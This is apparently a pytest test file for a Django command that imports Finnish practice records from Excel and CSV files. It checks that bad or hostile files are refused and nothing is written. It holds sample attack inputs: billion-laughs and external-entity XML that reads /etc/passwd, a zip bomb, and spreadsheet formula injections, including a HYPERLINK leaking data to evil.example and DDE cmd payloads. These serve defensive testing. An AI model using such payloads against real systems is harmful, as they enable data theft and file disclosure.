"""Bad input, end to end: each file goes through the import_practices command, and each
must give a clear message and write nothing (or, for the files that are fine after all,
import exactly what the cells say)."""

import io
import re
import time
import zipfile
from dataclasses import dataclass
from io import StringIO

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.utils import translation
from openpyxl import Workbook
from openpyxl.styles import Font, PatternFill

from contacts.models import Contact
from organisations.models import Organisation
from practices.models import (
    Collection,
    Practice,
    PracticeContact,
    PracticeOrganisation,
)
from practices.spreadsheets.reading import MAX_CELL_LENGTH
from tests.factories import (
    make_municipality,
    make_organisation,
    make_practice,
    make_region,
    make_stage,
)
from tests.practices.spreadsheets.test_reading import replace_entries, with_shared_strings

USERNAME = "tuoja"
HEADER = ["Tunniste", "Nimi", "Lyhyt kuvaus", "Kehittämisen vaihe", "Kunnat", "Organisaatiot"]
EXISTING = "olemassa-oleva-malli"


# -- Data and files --------------------------------------------------------------------------


@pytest.fixture
def world(db):
    """The reference data the files name, an importing user and one existing practice that
    every file tries to change."""
    region = make_region(name_fi="Uusimaa")
    make_municipality(name_fi="Järvenpää", name_sv="Träskända", code="186", region=region)
    make_municipality(name_fi="Lohja", name_sv="Lojo", code="444", region=region)
    make_stage(name_fi="Vakiintunut käytäntö")
    organisation = make_organisation(name_fi="Lohjan kaupunki")
    practice = make_practice(
        slug=EXISTING,
        name_fi="Olemassa oleva malli",
        summary_fi="Alkuperäinen kuvaus.",
        organisation=organisation,
    )
    get_user_model().objects.create_superuser(USERNAME, "tuoja@example.fi")
    return practice


def good_row(number, **cells):
    row = {
        "Tunniste": "",
        "Nimi": f"Uusi malli {number}",
        "Lyhyt kuvaus": f"Kuvaus {number}.",
        "Kehittämisen vaihe": "Vakiintunut käytäntö",
        "Kunnat": "Lohja; Järvenpää",
        "Organisaatiot": "Lohjan kaupunki",
    }
    row.update(cells)
    return [row[heading] for heading in HEADER]


def changing_existing(**cells):
    """A row that would change the existing practice if anything were written."""
    return good_row(0, Tunniste=EXISTING, Nimi="Olemassa oleva malli", **cells)


def xlsx_bytes(rows, *, prepare=None):
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = "Käytännöt"
    for row in rows:
        worksheet.append(row)
    if prepare:
        prepare(worksheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows, *, delimiter=";", encoding="utf-8-sig"):
    def field(value):
        value = str(value)
        if any(character in value for character in f'"{delimiter}\n\r'):
            return '"' + value.replace('"', '""') + '"'
        return value

    lines = [delimiter.join(field(value) for value in row) for row in rows]
    return "\r\n".join([*lines, ""]).encode(encoding)


def plain_workbook():
    return xlsx_bytes([HEADER, changing_existing(**{"Lyhyt kuvaus": "Muutettu."}), good_row(1)])


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!DOCTYPE {root} [\n"
    ' <!ENTITY lol "lol">\n'
    ' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    ' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
    "]>\n"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE {root} [<!ENTITY lol4 SYSTEM "file:///etc/passwd">]>\n'
)
SST = (
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<si><t>{}</t></si></sst>"
)


def entity_attack(entry, declaration):
    """A workbook whose sheet or shared strings declare an entity and use it for a name."""
    xlsx = xlsx_bytes([["Nimi", "Lyhyt kuvaus"], ["Hyökkäys", "Kuvaus."]])
    if entry == "sheet":

        def attack(sheet_xml):
            body = sheet_xml.decode().replace(">Hyökkäys<", ">&lol4;<")
            return (declaration.format(root="worksheet") + body).encode()

        return replace_entries(xlsx, {"xl/worksheets/sheet1.xml": attack})

    shared_strings = declaration.format(root="sst") + SST.format("&lol4;")
    return with_shared_strings(xlsx, shared_strings)


def ods_renamed():
    """An OpenDocument spreadsheet: a zip archive, but not an Excel workbook."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return buffer.getvalue()


def empty_sheet():
    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


def zip_bomb():
    # Zeros compress about 1,000 to 1, twice the ratio a real sheet reaches.
    zeros = b"\0" * (3 * 1024 * 1024)
    return replace_entries(plain_workbook(), {}, extra=[("xl/media/bomb.bin", zeros)])


def many_entries():
    extra = [(f"xl/media/image{n}.png", b"x") for n in range(1000)]
    return replace_entries(plain_workbook(), {}, extra=extra)


# -- Running the command ---------------------------------------------------------------------


@dataclass
class Outcome:
    succeeded: bool
    output: str

    def __str__(self):
        return self.output


def run_import(tmp_path, filename, content, *args):
    """Import through the command, in English; the outcome and all it printed (a
    CommandError, which makes the exit status non-zero, is part of the output)."""
    path = tmp_path / filename
    path.write_bytes(content)
    stdout, stderr = StringIO(), StringIO()
    with translation.override("en"):
        try:
            call_command(
                "import_practices",
                str(path),
                "--user",
                USERNAME,
                *args,
                stdout=stdout,
                stderr=stderr,
            )
        except CommandError as error:
            return Outcome(False, stdout.getvalue() + stderr.getvalue() + str(error))
    return Outcome(True, stdout.getvalue() + stderr.getvalue())


def snapshot():
    """Everything an import could write, and the existing practice as it is."""
    existing = Practice.objects.get(slug=EXISTING)
    return {
        "counts": {
            model.__name__: model.objects.count()
            for model in (
                Practice,
                Organisation,
                Collection,
                Contact,
                PracticeOrganisation,
                PracticeContact,
                LogEntry,
                Practice.municipalities.through,
                Practice.themes.through,
            )
        },
        "existing": {
            "name": existing.name_fi,
            "summary": existing.summary_fi,
            "stage": existing.stage_id,
            "status": existing.status,
            "modified_at": existing.modified_at,
            "municipalities": list(existing.municipalities.values_list("pk", flat=True)),
            "organisations": list(
                existing.organisation_roles.values_list("organisation_id", "role", "order")
            ),
        },
    }


NOTHING_WRITTEN = "Nothing was imported"


# -- Files that must be refused, each with what the message must say --------------------------


REFUSED = [
    pytest.param(
        "practices.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
        r"Old Excel files \(\.xls\) cannot be read.*save it as an Excel workbook \(\.xlsx\)",
        id="xls",
    ),
    pytest.param(
        "practices.ods",
        ods_renamed,
        r"“practices\.ods” is not a supported spreadsheet.*\(\.xlsx\) or a CSV file \(\.csv\)",
        id="ods",
    ),
    pytest.param(
        "practices.xlsx",
        ods_renamed,
        r"a zip archive but not an Excel workbook",
        id="ods-renamed-to-xlsx",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n",
        r"not an Excel workbook although its name ends in \.xlsx",
        id="pdf-renamed-to-xlsx",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes([["Nimi"], ["A"]])[:300],
        r"not an Excel workbook although its name ends in \.xlsx",
        id="truncated-xlsx",
    ),
    pytest.param(
        "practices.txt",
        lambda: csv_bytes([HEADER, good_row(1)]),
        r"“practices\.txt” is not a supported spreadsheet",
        id="txt",
    ),
    pytest.param(
        "practices.csv",
        plain_workbook,
        r"not a CSV text file although its name ends in \.csv",
        id="xlsx-renamed-to-csv",
    ),
    pytest.param("practices.xlsx", lambda: b"", r"The file is empty\.", id="empty-xlsx"),
    pytest.param("practices.csv", lambda: b"", r"The file is empty\.", id="empty-csv"),
    pytest.param(
        "practices.csv", lambda: b"\xef\xbb\xbf\r\n;;\r\n", r"The file is empty\.", id="blank-csv"
    ),
    pytest.param("practices.xlsx", empty_sheet, r"The file is empty\.", id="empty-sheet"),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes([HEADER]),
        r"The file has headings but no practices\.",
        id="header-only-xlsx",
    ),
    pytest.param(
        "practices.csv",
        lambda: csv_bytes([HEADER, [""] * len(HEADER)]),
        r"The file has headings but no practices\.",
        id="header-only-csv",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes([["Tunniste", "Lyhyt kuvaus"], [EXISTING, "Muutettu."]]),
        r"Row 1: The file has no “Nimi” \(name\) column\.",
        id="no-name-column",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [["Tunniste", "Nimi", "Lyhyt kuvaus", "Nimi"], [EXISTING, "A", "Muutettu.", "B"]]
        ),
        r"Row 1, column “Nimi”: The columns “Nimi” and “Nimi” are for the same field\.",
        id="duplicate-heading",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [["Nimi", "Lyhyt kuvaus", "summary"], ["Olemassa oleva malli", "Muutettu.", "B"]]
        ),
        r"Row 1, column “summary”: The columns “Lyhyt kuvaus” and “summary” are for the "
        r"same field\.",
        id="heading-and-field-name",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [["Nimi", "Lyhyt kuvaus", "Kunat"], ["Olemassa oleva malli", "Muutettu.", "Lohja"]]
        ),
        r"Row 1, column “Kunat”: Unknown column “Kunat”\. Did you mean “Kunnat”\?",
        id="misspelt-heading",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [
                HEADER,
                changing_existing(**{"Lyhyt kuvaus": "Muutettu."}),
                good_row(1),
                changing_existing(**{"Lyhyt kuvaus": "Toisin."}),
            ]
        ),
        rf"Row 4, column “Tunniste”: Rows 2 and 4 have the same “Tunniste” “{EXISTING}”\. "
        r"Each practice may appear only once",
        id="same-identifier-twice",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes([HEADER, good_row(1), good_row(1, **{"Lyhyt kuvaus": "Toinen."})]),
        r"Row 3, column “Nimi”: Rows 2 and 3 are the same practice “Uusi malli 1”\.",
        id="same-name-twice",
    ),
    pytest.param(
        "practices.csv",
        lambda: b"Nimi;Lyhyt kuvaus\r\nP\xe4iv\xe4koti\x81;Kuvaus.\r\n",
        r"The CSV file's characters could not be read: it is neither UTF-8 nor Windows",
        id="undecodable-csv",
    ),
    pytest.param(
        "practices.csv",
        lambda: "Nimi\tLyhyt kuvaus\r\nPäiväkoti\tKuvaus.\r\n".encode("utf-16"),
        r"not a CSV text file although its name ends in \.csv",
        id="utf16-csv",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [
                [*HEADER, "Ratkaisu"],
                [*changing_existing(), "ok"],
                [*good_row(1), "x" * (MAX_CELL_LENGTH + 1)],
            ]
        ),
        r"Row 3, column “Ratkaisu”: The text is 10001 characters long; at most 10000 are "
        r"allowed\. Shorten it\.",
        id="over-long-cell",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes([HEADER, changing_existing(), good_row(1, Nimi="N" * 256)]),
        r"Row 3, column “Nimi”: The text is 256 characters long; shorten it to at most 255\.",
        id="over-long-name",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [HEADER, changing_existing(), good_row(1, **{"Kehittämisen vaihe": "Vakiintunut"})]
        ),
        r"Row 3, column “Kehittämisen vaihe”: Unknown .*“Vakiintunut”\. "
        r"Did you mean “Vakiintunut käytäntö”\?",
        id="unknown-stage",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes([HEADER, changing_existing(), good_row(1, Kunnat="Lohja; Jarvenpa")]),
        r"Row 3, column “Kunnat”: Unknown .*“Jarvenpa”\. Did you mean “Järvenpää”\?",
        id="unknown-municipality",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: xlsx_bytes(
            [
                [*HEADER, "Yhteyshenkilöt"],
                [*changing_existing(), "Taru Rahkama <taru.rahkama@lohja.fi>"],
                [*good_row(1), "Taru Rahkama (Asiakkuuspäällikkö) <taru.rahkama@@lohja>"],
            ]
        ),
        r"Row 3, column “Yhteyshenkilöt”: Contact .*“taru\.rahkama@@lohja” is not a valid "
        r"e-mail address",
        id="malformed-email",
    ),
    pytest.param(
        "practices.xlsx",
        zip_bomb,
        r"The workbook cannot be read safely: it unpacks to far more data",
        id="zip-bomb-ratio",
    ),
    pytest.param(
        "practices.xlsx",
        many_entries,
        r"The workbook cannot be read safely",
        id="zip-too-many-entries",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: entity_attack("sheet", BILLION_LAUGHS),
        r"The workbook contains XML declarations that are not allowed",
        id="billion-laughs-in-sheet",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: entity_attack("shared strings", BILLION_LAUGHS),
        r"The workbook contains XML declarations that are not allowed",
        id="billion-laughs-in-shared-strings",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: entity_attack("sheet", EXTERNAL_ENTITY),
        r"The workbook contains XML declarations that are not allowed",
        id="external-entity-in-sheet",
    ),
    pytest.param(
        "practices.xlsx",
        lambda: entity_attack("shared strings", EXTERNAL_ENTITY),
        r"The workbook contains XML declarations that are not allowed",
        id="external-entity-in-shared-strings",
    ),
]


@pytest.mark.parametrize(("filename", "content", "expected"), REFUSED)
def test_bad_file_is_refused_with_a_clear_message_and_nothing_written(
    world, tmp_path, filename, content, expected
):
    before = snapshot()

    outcome = run_import(tmp_path, filename, content())

    assert not outcome.succeeded, outcome
    assert re.search(expected, str(outcome), re.DOTALL), outcome
    assert NOTHING_WRITTEN in str(outcome)
    assert snapshot() == before


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        (
            [["Nimi", "Ratkaisu"], ["A", "x" * (MAX_CELL_LENGTH + 1)]],
            "Row 2, column “Ratkaisu”: The text is 10001 characters long",
        ),
        ([["Nimi", None], ["A", "orpo"]], "Row 2, column “B”: "),
    ],
    ids=["over-long-cell", "value-without-heading"],
)
def test_a_cell_error_names_its_row_and_column_once(world, tmp_path, rows, expected):
    outcome = run_import(tmp_path, "practices.xlsx", xlsx_bytes(rows))

    assert not outcome.succeeded
    line = next(line for line in str(outcome).splitlines() if line.startswith("Row 2"))
    assert line.startswith(expected)
    assert line.count("Row 2") == 1, line


# -- Limits set in the settings --------------------------------------------------------------


@override_settings(PRACTICE_IMPORT_MAX_BYTES=1024 * 1024)
@pytest.mark.parametrize("filename", ["practices.csv", "practices.xlsx"])
def test_a_file_over_the_size_limit_is_refused(world, tmp_path, filename):
    # The size is checked before anything else, whatever the file holds.
    content = csv_bytes([HEADER, changing_existing(**{"Lyhyt kuvaus": "x" * 1024 * 1024})])
    before = snapshot()

    outcome = run_import(tmp_path, filename, content)

    assert not outcome.succeeded
    assert "The file is larger than 1 MB. Split it into smaller files." in str(outcome)
    assert snapshot() == before


def test_a_workbook_unpacking_over_the_limit_is_refused(world, tmp_path):
    content = xlsx_bytes([HEADER, changing_existing(), *[good_row(n) for n in range(1, 300)]])
    before = snapshot()

    with override_settings(PRACTICE_IMPORT_MAX_UNCOMPRESSED_BYTES=20_000):
        outcome = run_import(tmp_path, "practices.xlsx", content)

    assert not outcome.succeeded
    assert "The workbook cannot be read safely" in str(outcome)
    assert snapshot() == before
    # The same workbook within the limit imports.
    assert run_import(tmp_path, "practices.xlsx", content).succeeded
    assert Practice.objects.count() == before["counts"]["Practice"] + 299


def test_a_workbook_with_more_entries_than_the_limit_is_refused(world, tmp_path):
    content = plain_workbook()
    entries = len(zipfile.ZipFile(io.BytesIO(content)).infolist())
    before = snapshot()

    with override_settings(PRACTICE_IMPORT_MAX_ZIP_ENTRIES=entries - 1):
        outcome = run_import(tmp_path, "practices.xlsx", content)

    assert not outcome.succeeded
    assert "The workbook cannot be read safely" in str(outcome)
    assert snapshot() == before


# -- One bad row among good ones -------------------------------------------------------------


def test_one_bad_row_among_fifty_good_ones_writes_nothing(world, tmp_path):
    rows = [changing_existing(**{"Lyhyt kuvaus": "Muutettu."})]
    rows += [good_row(n) for n in range(1, 50)]
    rows.insert(30, good_row(99, Kunnat="Järvenpää; Lohija"))
    before = snapshot()

    outcome = run_import(tmp_path, "practices.xlsx", xlsx_bytes([HEADER, *rows]))

    assert not outcome.succeeded
    errors = re.findall(r"^Row \d+, column .*$", str(outcome), re.MULTILINE)
    assert errors == [
        "Row 32, column “Kunnat”: Unknown municipality “Lohija”. Did you mean “Lohja”?"
    ], outcome
    assert "errors: 1" in str(outcome)
    assert "The file has 1 error. Nothing was imported" in str(outcome)
    assert snapshot() == before


# -- Files that are fine after all -----------------------------------------------------------


def imported(name):
    return Practice.objects.get(name_fi=name)


def test_a_windows_1252_csv_imports_with_its_accented_letters(world, tmp_path):
    rows = [
        HEADER,
        changing_existing(**{"Lyhyt kuvaus": "Päivitetty – öljyä ja äänestystä."}),
        good_row(1, Nimi="Äitiysneuvolan ryhmät", Kunnat="Järvenpää"),
    ]

    outcome = run_import(tmp_path, "practices.csv", csv_bytes(rows, encoding="cp1252"))

    assert outcome.succeeded, outcome
    assert "New: 1, updated: 1, unchanged: 0, errors: 0" in str(outcome)
    practice = imported("Äitiysneuvolan ryhmät")
    assert list(practice.municipalities.values_list("name_fi", flat=True)) == ["Järvenpää"]
    existing = Practice.objects.get(slug=EXISTING)
    assert existing.summary_fi == "Päivitetty – öljyä ja äänestystä."


@pytest.mark.parametrize(
    ("delimiter", "encoding"),
    [(";", "utf-8-sig"), (",", "utf-8"), (",", "utf-8-sig"), ("\t", "utf-8")],
    ids=["semicolon-bom", "comma", "comma-bom", "tab"],
)
def test_a_csv_imports_whatever_its_delimiter(world, tmp_path, delimiter, encoding):
    rows = [
        HEADER,
        good_row(1, **{"Lyhyt kuvaus": "Yksi, kaksi; kolme."}, Kunnat="Lohja; Järvenpää"),
    ]

    outcome = run_import(
        tmp_path, "practices.csv", csv_bytes(rows, delimiter=delimiter, encoding=encoding)
    )

    assert outcome.succeeded, outcome
    practice = imported("Uusi malli 1")
    assert practice.summary_fi == "Yksi, kaksi; kolme."
    assert sorted(practice.municipalities.values_list("name_fi", flat=True)) == [
        "Järvenpää",
        "Lohja",
    ]


FORMULAS = {
    "Nimi": "=1+1",
    "Lyhyt kuvaus": '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")',
    "Ratkaisu": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Tulokset": "+cmd|' /C notepad'!A0",
    "Arviointi": "-2+3",
}


def formula_workbook():
    """The cells typed into Excel: those starting with = are saved as formulas."""
    headings = [*HEADER, "Ratkaisu", "Tulokset", "Arviointi"]
    row = dict(zip(HEADER, good_row(1), strict=True)) | FORMULAS
    return xlsx_bytes([headings, [row[heading] for heading in headings]])


def formula_csv():
    headings = [*HEADER, "Ratkaisu", "Tulokset", "Arviointi"]
    row = dict(zip(HEADER, good_row(1), strict=True)) | FORMULAS
    return csv_bytes([headings, [row[heading] for heading in headings]])


@pytest.mark.parametrize(
    ("filename", "content"),
    [("practices.xlsx", formula_workbook), ("practices.csv", formula_csv)],
    ids=["xlsx", "csv"],
)
def test_formulas_are_stored_as_their_text_never_evaluated(world, tmp_path, filename, content):
    outcome = run_import(tmp_path, filename, content())

    assert outcome.succeeded, outcome
    practice = imported("=1+1")
    assert practice.summary_fi == FORMULAS["Lyhyt kuvaus"]
    assert practice.solution_fi == FORMULAS["Ratkaisu"]
    assert practice.results_fi == FORMULAS["Tulokset"]
    assert practice.evaluation_fi == FORMULAS["Arviointi"]
    assert not Practice.objects.filter(name_fi="2").exists()


def libreoffice_leftovers(worksheet):
    """Merged cells, and formatting saved far below the last row, as LibreOffice leaves."""
    worksheet.merge_cells("E3:E4")  # Kunnat of rows 3 and 4 in one merged cell
    worksheet.merge_cells("G1:H1")  # a merged decoration beside the headings, empty
    fill = PatternFill("solid", fgColor="FFFF00")
    for number in range(6, 5000, 7):
        worksheet.cell(row=number, column=1).fill = fill
        worksheet.cell(row=number, column=3).font = Font(bold=True)


def test_merged_cells_and_styled_blank_rows_import_the_rows_as_written(world, tmp_path):
    content = xlsx_bytes(
        [HEADER, good_row(1), good_row(2, Kunnat="Lohja"), good_row(3, Kunnat="")],
        prepare=libreoffice_leftovers,
    )

    outcome = run_import(tmp_path, "practices.xlsx", content)

    assert outcome.succeeded, outcome
    assert "New: 3, updated: 0, unchanged: 0, errors: 0" in str(outcome)
    # A merged cell's value belongs to its top-left cell only.
    assert list(imported("Uusi malli 2").municipalities.values_list("name_fi", flat=True)) == [
        "Lohja"
    ]
    assert not imported("Uusi malli 3").municipalities.exists()


def with_phantom_rows(xlsx):
    """The sheet claims the spreadsheet's last row and has a styled empty row there, as
    LibreOffice saves formatting applied to whole columns."""

    def add_rows(sheet_xml):
        text = sheet_xml.decode()
        text = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:AA1048576"', text)
        assert "</sheetData>" in text
        last = '<row r="1048576" s="0" customFormat="1"><c r="AA1048576" s="0"/></row>'
        return text.replace("</sheetData>", last + "</sheetData>").encode()

    return replace_entries(xlsx, {"xl/worksheets/sheet1.xml": add_rows})


def test_a_sheet_with_a_million_phantom_rows_imports_its_real_rows_quickly(world, tmp_path):
    content = with_phantom_rows(xlsx_bytes([HEADER, good_row(1), good_row(2)]))
    started = time.monotonic()

    outcome = run_import(tmp_path, "practices.xlsx", content)

    assert outcome.succeeded, outcome
    assert "New: 2, updated: 0, unchanged: 0, errors: 0" in str(outcome)
    assert imported("Uusi malli 2")
    # Not a timing benchmark: a generous bound that only walking a million rows exceeds.
    assert time.monotonic() - started < 20


# -- Importing again, and export -> import ---------------------------------------------------


def test_importing_the_same_file_again_changes_nothing(world, tmp_path):
    rows = [
        [*HEADER, "Yhteyshenkilöt", "Kokonaisuus"],
        [*changing_existing(**{"Lyhyt kuvaus": "Muutettu."}), "", ""],
        *[
            [*good_row(n), f"Henkilö {n} (Koordinaattori) <henkilo{n}@example.fi>", "Kokoelma"]
            for n in range(1, 6)
        ],
        [*good_row(9, Organisaatiot="Uusi yhdistys ry; Lohjan kaupunki"), "", ""],
    ]
    content = xlsx_bytes(rows)
    first = run_import(tmp_path, "practices.xlsx", content)
    assert first.succeeded, first
    assert "New: 6, updated: 1, unchanged: 0, errors: 0" in str(first)
    before = snapshot()

    again = run_import(tmp_path, "practices.xlsx", content)

    assert again.succeeded, again
    assert "New: 0, updated: 0, unchanged: 7, errors: 0, new organisations: 0, " in str(again)
    assert "new collections: 0." in str(again)
    assert snapshot() == before


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_export_then_import_changes_nothing(world, tmp_path, extension):
    setup = run_import(
        tmp_path,
        "setup.xlsx",
        xlsx_bytes(
            [
                [*HEADER, "Yhteyshenkilöt", "Tila", "Ratkaisu", "Aloitusvuosi"],
                [*changing_existing(), "Taru Rahkama (Päällikkö) <taru@lohja.fi>", "", "", ""],
                [*good_row(1), "Pekka", "Julkaistu", "=1+1 on teksti\nrivillä kaksi", "2021"],
                [*good_row(2, Kunnat=""), "", "Arkistoitu", "'lainaus", ""],
            ]
        ),
    )
    assert setup.succeeded, setup
    path = tmp_path / f"export.{extension}"
    call_command("export_practices", str(path), stdout=StringIO())
    before = snapshot()

    outcome = run_import(tmp_path, path.name, path.read_bytes())

    assert outcome.succeeded, outcome
    assert "New: 0, updated: 0, unchanged: 3, errors: 0" in str(outcome)
    assert snapshot() == before
